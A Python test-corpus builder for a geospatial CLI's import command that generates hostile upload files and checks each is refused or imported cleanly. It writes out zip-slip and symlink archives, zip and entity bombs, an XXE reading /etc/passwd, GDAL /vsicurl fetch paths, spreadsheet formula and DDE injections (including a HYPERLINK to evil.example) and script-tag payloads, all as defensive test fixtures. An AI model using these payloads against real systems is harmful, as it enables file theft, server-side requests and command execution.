"""The hostile uploads corpus: how each file is made, and how one is run through the CLI.

``python tests/hostile/uploads/corpus.py`` (re)writes every committed file of this folder
from the builders below; files too big for the repository (``generated = true`` in
MANIFEST.toml) are built at run time into a temporary folder.  Used by
tests/test_hostile_uploads.py and bench/hostile_uploads.py, which run each file through
``catchscope import`` in a real process, into a fresh copy of the demo workspace, as a
user would.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import sqlite3
import stat
import struct
import subprocess
import sys
import tempfile
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
SITE = "AWS-000521"
LON, LAT = 120.9631, 31.1921

# --- small makers ---------------------------------------------------------------------------


def _point(i: int = 0) -> dict[str, Any]:
    return {"type": "Point", "coordinates": [round(LON + i * 1e-4, 7), LAT]}


def _fc_text(*features: tuple[dict[str, Any], Any], indent: int | None = None) -> str:
    items = [{"type": "Feature", "properties": p, "geometry": g} for p, g in features]
    return json.dumps({"type": "FeatureCollection", "features": items}, indent=indent)


def _fc(*features: tuple[dict[str, Any], Any]) -> bytes:
    return _fc_text(*features).encode("ascii")  # \ud800 escapes and NaN tokens as written


def _zip(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED,
         links: tuple[str, ...] = ()) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, payload in entries.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            if name in links:
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, payload)
    return buffer.getvalue()


def _kml(body: str, head: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{head}'
            f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'
            ).encode()


def _placemark(name: str, i: int = 0, *, z: bool = False, extra: str = "") -> str:
    height = ",12.5" if z else ""
    return (f"<Placemark><name>{name}</name>{extra}<Point><coordinates>"
            f"{LON + i * 1e-4:.7f},{LAT:.7f}{height}</coordinates></Point></Placemark>")


def _gpx(body: str, head: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{head}<gpx version="1.1" creator="corpus" '
            f'xmlns="http://www.topografix.com/GPX/1/1">{body}</gpx>').encode()


def _frame(names: list[Any], **columns: list[Any]) -> Any:
    import geopandas as gpd
    from shapely.geometry import Point

    return gpd.GeoDataFrame({"name": names, **columns},
                            geometry=[Point(LON + i * 1e-4, LAT) for i in range(len(names))],
                            crs="EPSG:4326")


def _ogr_bytes(frame: Any, driver: str, suffix: str, **options: Any) -> dict[str, bytes]:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"data{suffix}"
        frame.to_file(path, driver=driver, engine="pyogrio", **options)
        return {p.suffix: p.read_bytes() for p in Path(folder).iterdir()}


def _shapefile_zip(frame: Any, *, prefix: str = "", extra: dict[str, bytes] | None = None,
                   **options: Any) -> bytes:
    parts = _ogr_bytes(frame, "ESRI Shapefile", ".shp", **options)
    return _zip({f"{prefix}outfalls{ext}": data for ext, data in sorted(parts.items())}
                | (extra or {}))


def _gpkg(frame: Any, sql: tuple[str, ...] = ()) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "data.gpkg"
        frame.to_file(path, driver="GPKG", layer="outfalls", engine="pyogrio",
                      layer_options={"SPATIAL_INDEX": "NO"})  # no triggers calling ST_*
        con = sqlite3.connect(path)
        try:
            for statement in sql:
                con.execute(statement)
            con.commit()
        finally:
            con.close()
        return path.read_bytes()


def _gpkg_geometry(wkb: bytes) -> bytes:
    """A GeoPackage geometry blob without envelope (little endian, SRS 4326)."""
    return b"GP" + bytes([0, 0b0000_0001]) + struct.pack("<i", 4326) + wkb


def _xlsx(rows: list[list[Any]], *, text_cells: tuple[str, ...] = ()) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for ref in text_cells:  # text that looks like a formula, as a user typed it
        sheet[ref].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _csv(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


# --- the committed files ----------------------------------------------------------------------

Builder = Callable[[], bytes]


def _geojson_files() -> dict[str, Builder]:
    nan, inf = float("nan"), float("inf")
    return {
        "int-past-int64.geojson": lambda: _fc(
            ({"name": "huge", "n": 99999999999999999999, "neg": -(2**63) - 1}, _point(0)),
            ({"name": "small", "n": 1, "neg": -1}, _point(1))),
        "int-past-2-53.geojson": lambda: _fc(
            ({"name": "id64", "osm": 2**60 + 1}, _point(0)),
            ({"name": "id53", "osm": 2**53 - 1}, _point(1))),
        "nan-infinity-tokens.geojson": lambda: _fc(
            ({"name": "nan", "depth": nan, "flow": inf, "tags": [nan, -inf, 1]}, _point(0)),
            ({"name": "finite", "depth": 2.5, "flow": 1.0, "tags": []}, _point(1))),
        "lone-surrogates.geojson": lambda: _fc(
            ({"name": "half \ud800 pair", "\udcff key": "x", "note": "\udfff"}, _point(0))),
        "control-characters.geojson": lambda: _fc(
            ({"name": "bell\x07 esc\x1b[31m red nul\x00 del\x7f c1\x85 "
                      "bom\ufeff nonchar\uffff crlf\r\nend", "tab": "a\tb"}, _point(0))),
        "nested-objects.geojson": lambda: _fc(
            ({"name": "nested", "meta": {"owner": {"name": "x", "ids": [1, 2, {"y": None}]}},
              "list": [1, "two", True]}, _point(0))),
        "nested-too-deep.geojson": lambda: _fc(
            ({"name": "deep", "tree": json.loads("[" * 80 + "]" * 80)}, _point(0))),
        "deep-json.geojson": lambda: (
            b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
            b'{"x": ' + b"[" * 100_000 + b"]" * 100_000 + b'}, "geometry": null}]}'),
        "mixed-types.geojson": lambda: _fc(
            ({"name": "a", "v": 1, "w": 1, "b": True}, _point(0)),
            ({"name": "b", "v": "one", "w": 2.5, "b": 0}, _point(1)),
            ({"name": "c", "v": True, "w": None, "b": None}, _point(2))),
        "odd-field-names.geojson": lambda: _fc(
            ({"name": "names", "": 1, "   ": 2, "k" * 300: 3, "geometry": "g", "geom": "h",
              "row_id": 4, "FID": "upper", "Source": "s", "Kind": "k", "layer": "l",
              "a\nb": 5, "=cmd": 6, "<b>x</b>": 7}, _point(0))),
        "value-over-limit.geojson": lambda: _fc(
            ({"name": "long", "description": "a" * 150_000}, _point(0))),
        "geometry-oddities.geojson": lambda: _fc(
            ({"name": "good"}, _point(0)),
            ({"name": "3d"}, {"type": "Point", "coordinates": [LON, LAT + 1e-4, 12.0]}),
            ({"name": "4d"}, {"type": "Point", "coordinates": [LON, LAT + 2e-4, 12.0, 7.0]}),
            ({"name": "empty"}, {"type": "Point", "coordinates": []}),
            ({"name": "nan"}, {"type": "Point", "coordinates": [nan, LAT]}),
            ({"name": "bools"}, {"type": "Point", "coordinates": [True, False]}),
            ({"name": "text"}, {"type": "Point", "coordinates": ["120.9", "31.1"]}),
            ({"name": "null"}, None),
            ({"name": "collection"}, {"type": "GeometryCollection", "geometries": []}),
            ({"name": "unknown"}, {"type": "Circle", "coordinates": [LON, LAT]})),
        "all-nan-coordinates.geojson": lambda: _fc(
            ({"name": "nowhere"}, {"type": "Point", "coordinates": [nan, nan]}),
            ({"name": "far"}, {"type": "Point", "coordinates": [inf, LAT]})),
        "properties-not-object.geojson": lambda: (
            '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
            f'[1, 2], "geometry": {json.dumps(_point())}}}]}}').encode(),
        "integer-5000-digits.geojson": lambda: (
            '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
            '{"n": ' + "9" * 5000 + '}, "geometry": ' + json.dumps(_point()) + "}]}").encode(),
        "duplicate-keys.geojson": lambda: (
            '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
            '{"name": "first", "name": "second"}, "geometry": '
            + json.dumps(_point()) + "}]}").encode(),
        "bom-utf8.geojson": lambda: b"\xef\xbb\xbf" + _fc_text(
            ({"name": "名称 with BOM"}, _point())).encode("utf-8"),
        "utf16.geojson": lambda: _fc_text(({"name": "utf16"}, _point())).encode("utf-16"),
        "latin1.geojson": lambda: _fc_text(({"name": "Café"}, _point())).replace(
            "\\u00e9", "\u00e9").encode("latin-1"),
        "crs-vsicurl.geojson": lambda: json.dumps({
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": "/vsicurl/http://example.com/x.prj"}},
            "features": [{"type": "Feature", "properties": {}, "geometry": _point()}]}).encode(),
        "crs-link.geojson": lambda: json.dumps({
            "type": "FeatureCollection",
            "crs": {"type": "link", "properties": {"href": "http://example.com/crs", "type":
                                                   "proj4"}},
            "features": [{"type": "Feature", "properties": {}, "geometry": _point()}]}).encode(),
        "vsi-paths-as-values.geojson": lambda: _fc(
            ({"name": "/vsicurl/http://example.com/x.zip", "src": "/vsizip//etc/passwd",
              "url": "file:///etc/passwd"}, _point())),
        "lines-into-points.geojson": lambda: _fc(
            ({"name": "outfall"}, _point()),
            ({"name": "a pipe"}, {"type": "LineString", "coordinates": [
                [LON, LAT], [LON + 1e-3, LAT]]})),
    }


def _lying_files() -> dict[str, Builder]:
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    tiff = b"II*\x00" + b"\x00" * 64
    return {
        "png-named.geojson": lambda: png,
        "tiff-named.geojson": lambda: tiff,
        "geojson-named.kml": lambda: _fc(({"name": "x"}, _point())),
        "geojson-named.csv": lambda: _fc(({"name": "x"}, _point())),
        "kml-named.gpkg": lambda: _kml(_placemark("x")),
        "zip-named.kml": lambda: _zip({"doc.kml": _kml(_placemark("x"))}),
        "shapefile-named.kmz": lambda: _shapefile_zip(_frame(["x"])),
        "xlsx-named.csv": lambda: _xlsx([["name", "lon", "lat"], ["x", LON, LAT]]),
        "gpkg-named.geojson": lambda: _gpkg(_frame(["x"])),
        "ogr-vrt.vrt": lambda: (
            b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/etc/passwd'
            b"</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"),
        "vrt-named.geojson": lambda: (
            b'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand band="1">'
            b"<SimpleSource><SourceFilename>/vsicurl/http://example.com/x.tif"
            b"</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"),
        "gdal-wms.xml": lambda: (b"<GDAL_WMS><Service name='TMS'><ServerUrl>"
                                 b"http://example.com/${z}/${x}/${y}.png</ServerUrl>"
                                 b"</Service></GDAL_WMS>"),
    }


def _zip_files() -> dict[str, Builder]:
    return {
        "shapefile-gbk.zip": lambda: _shapefile_zip(
            _frame(["雨水排放口", "污水接管口"], code=["R1", "S1"]), encoding="GBK"),
        "shapefile-plus-vrt.zip": lambda: _shapefile_zip(
            _frame(["with a vrt beside"]),
            extra={"evil.vrt": b"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>"
                               b"/vsicurl/http://example.com/x.csv</SrcDataSource>"
                               b"</OGRVRTLayer></OGRVRTDataSource>"}),
        "shapefile-prj-vsicurl.zip": lambda: _zip(
            {k: v for k, v in _zip_members(_shapefile_zip(_frame(["prj"]))).items()
             if not k.endswith(".prj")}
            | {"outfalls.prj": b"/vsicurl/http://example.com/evil.prj"}),
        "zip-slip-dotdot.zip": lambda: _zip({"../../evil.shp": b"x", "ok.txt": b"y"}),
        "zip-slip-absolute.zip": lambda: _zip({"/tmp/evil.shp": b"x"}),
        "zip-slip-drive.zip": lambda: _zip({"C:\\Windows\\evil.shp": b"x"}),
        "zip-symlink.zip": lambda: _zip({"outfalls.shp": b"/etc/passwd"},
                                        links=("outfalls.shp",)),
        "zip-bomb-ratio.zip": lambda: _zip({"outfalls.shp": b"\x00" * 30_000_000}),
        "zip-bomb-entries.zip": lambda: _zip({f"f{i}.txt": b"x" for i in range(250)}),
        "zip-in-zip.zip": lambda: _zip({"inner.zip": _shapefile_zip(_frame(["inner"]))}),
        "kmz-zip-slip.kmz": lambda: _zip({"../doc.kml": _kml(_placemark("x"))}),
        "kmz-networklink.kmz": lambda: _zip({"doc.kml": _kml(
            "<NetworkLink><Link><href>http://example.com/more.kml</href></Link></NetworkLink>")}),
    }


def _zip_members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {i.filename: archive.read(i) for i in archive.infolist()}


def _table_files() -> dict[str, Builder]:
    return {
        "formula-names.csv": lambda: _csv(
            "name,lon,lat,depth\n"
            f'"=HYPERLINK(""http://evil.example/?""&A1,""Open"")",{LON},{LAT},-3.5\n'
            f"+SUM(1),{LON + 1e-4},{LAT},-1\n"
            f"@cmd,{LON + 2e-4},{LAT},2\n"
            f"\"-2+3+cmd|' /C calc'!A0\",{LON + 3e-4},{LAT},0\n"),
        "big-ints-and-inf.csv": lambda: _csv(
            "name,lon,lat,permit,reading,code\n"
            f"a,{LON},{LAT},99999999999999999999,inf,0012\n"
            f"b,{LON + 1e-4},{LAT},12345678901234567890,nan,0013\n"),
        "gb18030.csv": lambda: _csv(f"名称,经度,纬度\n雨水排放口,{LON},{LAT}\n", "gb18030"),
        "bom-utf8.csv": lambda: b"\xef\xbb\xbf" + _csv(f"name,lon,lat\nBOM,{LON},{LAT}\n"),
        "utf16.csv": lambda: _csv(f"name,lon,lat\nutf16,{LON},{LAT}\n", "utf-16"),
        "latin1.csv": lambda: _csv(f"name,lon,lat\nCafé,{LON},{LAT}\n", "latin-1"),
        "control-characters.csv": lambda: _csv(
            f"name,lon,lat\n\"esc\x1b[2J bell\x07 cr\rend\",{LON},{LAT}\n"),
        "nul-byte.csv": lambda: _csv(f"name,lon,lat\n\"nul\x00here\",{LON},{LAT}\n"),
        "ragged.csv": lambda: _csv(f"name,lon,lat\na,{LON},{LAT},extra,more\n\"unclosed,{LON}\n"),
        "duplicate-headers.csv": lambda: _csv(
            f"name,name,NAME,lon,lat\na,b,c,{LON},{LAT}\n"),
        "formulas.xlsx": lambda: _xlsx(
            [["name", "lon", "lat", "depth"],
             ["=cmd|' /C calc'!A0", LON, LAT, -4.25],
             ["computed", LON + 1e-4, LAT, "=1+1"],
             ["=HYPERLINK(\"http://evil.example\")", LON + 2e-4, LAT, 3]],
            text_cells=("A2", "A4")),
        "big-int.xlsx": _big_int_xlsx,
        "duplicate-headers.xlsx": lambda: _xlsx(
            [["name", "lon", "lat", "name", None], ["a", LON, LAT, "b", "c"]]),
    }


def _big_int_xlsx() -> bytes:
    """A cell holding the digits of 2**70 (openpyxl would write a double; other tools don't)."""
    members = _zip_members(_xlsx([["name", "lon", "lat", "permit"], ["a", LON, LAT, 12345],
                                  ["b", LON + 1e-4, LAT, 1]]))
    sheet = "xl/worksheets/sheet1.xml"
    members[sheet] = members[sheet].replace(b"<v>12345</v>", f"<v>{2**70}</v>".encode())
    return _zip(members)


def _gpkg_files() -> dict[str, Builder]:
    nan_line = struct.pack("<bII", 1, 2, 2) + struct.pack("<4d", LON, LAT, float("nan"), LAT)
    return {
        "odd-values.gpkg": lambda: _gpkg(
            _frame(["inf", "ok"], depth=[1.0, 2.0], n=[1, 2]),
            ("UPDATE outfalls SET depth = 9e999 WHERE name = 'inf'",
             "UPDATE outfalls SET name = 'esc' || char(27) || '[31m' || char(0) || 'x' "
             "WHERE name = 'ok'",
             "UPDATE outfalls SET n = 9223372036854775807 WHERE n = 2",
             "ALTER TABLE outfalls ADD COLUMN photo BLOB",
             "UPDATE outfalls SET photo = x'89504e470d0a1a0a'")),
        "invalid-utf8.gpkg": lambda: _gpkg(
            _frame(["x"]), ("UPDATE outfalls SET name = CAST(x'fffe41c328' AS TEXT)",)),
        "nan-geometry.gpkg": lambda: _gpkg(
            _frame(["good", "nan"]),
            (f"UPDATE outfalls SET geom = x'{_gpkg_geometry(nan_line).hex()}' "
             "WHERE name = 'nan'",)),
        "virtual-table.gpkg": lambda: _gpkg(
            _frame(["x"]), ("CREATE VIRTUAL TABLE notes USING fts4(body)",)),
        "sqlite-not-gpkg.gpkg": _plain_sqlite,
    }


def _plain_sqlite() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "plain.sqlite"
        con = sqlite3.connect(path)
        con.execute("CREATE TABLE t (x)")
        con.commit()
        con.close()
        return path.read_bytes()


def _xml_files() -> dict[str, Builder]:
    return {
        "networklink.kml": lambda: _kml(
            "<NetworkLink><Link><href>http://example.com/more.kml</href></Link></NetworkLink>"
            + _placemark("x")),
        "xxe.kml": lambda: _kml(_placemark("&xxe;"),
                                '<!DOCTYPE kml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
        "control-char-reference.kml": lambda: _kml(_placemark("esc &#x1b; here")),
        "script-and-3d.kml": lambda: _kml(
            _placemark("<![CDATA[<script>alert(1)</script>]]>", 0, z=True,
                       extra="<description><![CDATA[<img src=x onerror=alert(1)>]]>"
                             "</description>")
            + _placemark("=HYPERLINK(&quot;http://evil.example&quot;)", 1)),
        "entity-bomb.gpx": lambda: _gpx(
            f'<wpt lat="{LAT}" lon="{LON}"><name>&b;</name></wpt>',
            '<!DOCTYPE gpx [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'),
        "odd-names.gpx": lambda: _gpx(
            f'<wpt lat="{LAT}" lon="{LON}"><ele>12.5</ele><name>rtl \u202egpj.exe</name></wpt>'
            f'<wpt lat="{LAT}" lon="{LON + 1e-4:.7f}"><name>😀 =cmd</name></wpt>'),
    }


def committed() -> dict[str, Builder]:
    """Every committed file of the corpus, by name."""
    return {**_geojson_files(), **_lying_files(), **_zip_files(), **_table_files(),
            **_gpkg_files(), **_xml_files()}


# --- built at run time (too big for the repository) -------------------------------------------


def _spiral(n: int) -> dict[str, Any]:
    import math

    coords = [[round(LON + 1e-6 * i * math.cos(i / 50), 7),
               round(LAT + 1e-6 * i * math.sin(i / 50), 7)] for i in range(n)]
    return {"type": "LineString", "coordinates": coords}


GENERATED: dict[str, Builder] = {
    "ten-mb-string.geojson": lambda: _fc(
        ({"name": "ten megabytes", "description": "x" * (10 * 1024 * 1024)}, _point())),
    "over-upload-limit.geojson": lambda: (
        b'{"type": "FeatureCollection", "features": [' + b" " * (51 * 1024 * 1024) + b"]}"),
    "huge-vertex-count.geojson": lambda: _fc(({"name": "spiral"}, _spiral(260_000))),
}


# --- the manifest and one run ------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Entry:
    """One file of MANIFEST.toml."""

    path: str
    format: str
    attacks: str
    expect: str  # "refused" or "imported"
    match: str
    layer: str = "discharge_points"
    kind: str | None = None
    features: int | None = None
    args: tuple[str, ...] = ()
    generated: bool = False


def manifest() -> list[Entry]:
    """The entries of MANIFEST.toml, in order."""
    document = tomllib.loads((HERE / "MANIFEST.toml").read_text(encoding="utf-8"))
    return [Entry(**{**item, "args": tuple(item.get("args", ()))})
            for item in document["file"]]


def materialise(entry: Entry, folder: Path) -> Path:
    """The file to import: the committed one, or a generated one written into ``folder``."""
    if not entry.generated:
        return HERE / entry.path
    path = folder / entry.path
    path.write_bytes(GENERATED[entry.path]())
    return path


def demo_copy(target: Path) -> Path:
    """A fresh copy of the demo workspace at ``target``."""
    from geo.core.workspace import copy_workspace

    return copy_workspace(REPO, target)


def tree_hash(root: Path) -> dict[str, str]:
    """sha256 of every file under ``root``."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@dataclasses.dataclass(frozen=True)
class Outcome:
    """What one import did."""

    entry: Entry
    returncode: int
    stdout: str
    stderr: str
    changed: bool
    traceback: bool
    added: int | None

    @property
    def refused_cleanly(self) -> bool:
        return (self.returncode == 1 and not self.traceback and not self.changed
                and self.stderr.startswith("error:"))

    @property
    def imported(self) -> bool:
        return self.returncode == 0 and not self.traceback and self.changed

    @property
    def changed_on_refusal(self) -> bool:
        return self.returncode != 0 and self.changed

    @property
    def as_expected(self) -> bool:
        text = " ".join((self.stderr if self.entry.expect == "refused" else self.stdout).split())
        if self.entry.match not in text:
            return False
        if self.entry.expect == "refused":
            return self.refused_cleanly
        return self.imported and (self.entry.features is None
                                  or self.added == self.entry.features)

    @property
    def label(self) -> str:
        if self.traceback:
            return "TRACEBACK"
        if self.changed_on_refusal:
            return "CHANGED ON REFUSAL"
        if self.refused_cleanly:
            return "refused cleanly"
        if self.imported:
            return "imported"
        return f"exit {self.returncode}"


def _command() -> list[str]:
    script = Path(sys.executable).with_name("catchscope")
    return [str(script)] if script.exists() else [sys.executable, "-m", "geo.cli.main"]


def _count(root: Path, layer: str) -> int:
    """Features of a layer (read in this process: only the import runs as a user would)."""
    from geo.core.errors import GeoError
    from geo.core.workspace import open_workspace

    try:
        return len(open_workspace(root).load(layer))
    except GeoError:
        return -1


def run(entry: Entry, scratch: Path, *, in_process: bool = False) -> Outcome:
    """Import ``entry`` with ``catchscope import`` into a fresh demo copy.

    By default in a real process, as a user runs it.  ``in_process`` runs the same command
    (its Typer app, the arguments, the error handling of its entry point) in this
    interpreter instead, which spares the interpreter start and the imports; an exception
    escaping the command counts as the traceback a process would have printed.
    """
    scratch.mkdir(parents=True, exist_ok=True)
    workspace = demo_copy(scratch / "workspace")
    path = materialise(entry, scratch)
    before = tree_hash(workspace)
    layer_before = _count(workspace, entry.layer) if entry.kind is None else 0
    arguments = ["import", str(path), "--layer", entry.layer, "--site", SITE,
                 *(["--kind", entry.kind] if entry.kind else []), *entry.args,
                 "-w", str(workspace)]
    if in_process:
        returncode, stdout, stderr = _invoke(arguments)
    else:
        environment = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8",
                       "COLUMNS": "400", "HOME": str(scratch)}
        done = subprocess.run([*_command(), *arguments], capture_output=True, text=True,
                              timeout=600, cwd=REPO, env=environment, check=False)
        returncode, stdout, stderr = done.returncode, done.stdout, done.stderr
    changed = tree_hash(workspace) != before
    added = _count(workspace, entry.layer) - layer_before if returncode == 0 else None
    if entry.generated:
        path.unlink()
    return Outcome(entry, returncode, stdout, stderr, changed,
                   "Traceback (most recent call last)" in stdout + stderr, added)


def _invoke(arguments: list[str]) -> tuple[int, str, str]:
    """``catchscope ARGUMENTS`` in this interpreter: exit code, stdout, stderr."""
    import traceback

    from typer.testing import CliRunner

    from geo.cli import main as cli
    from geo.core.errors import GeoError

    widths = cli.console.width, cli.err_console.width
    cli.console.width = cli.err_console.width = 400  # as COLUMNS=400 in a process
    try:
        result = CliRunner().invoke(cli.app, arguments, catch_exceptions=True)
    finally:
        cli.console.width, cli.err_console.width = widths
    stdout, stderr, code = result.stdout, result.stderr, result.exit_code
    error = result.exception
    if isinstance(error, GeoError):  # what main() does with one
        stderr += f"error: {error}\n"
        code = 1
    elif error is not None and not isinstance(error, SystemExit) and result.exc_info:
        stderr += "".join(traceback.format_exception(*result.exc_info))
    return code, stdout, stderr


def write_all() -> None:
    """(Re)write the committed files from their builders."""
    for name, build in committed().items():
        (HERE / name).write_bytes(build())


if __name__ == "__main__":
    write_all()
    print(f"wrote {len(committed())} files to {HERE}")
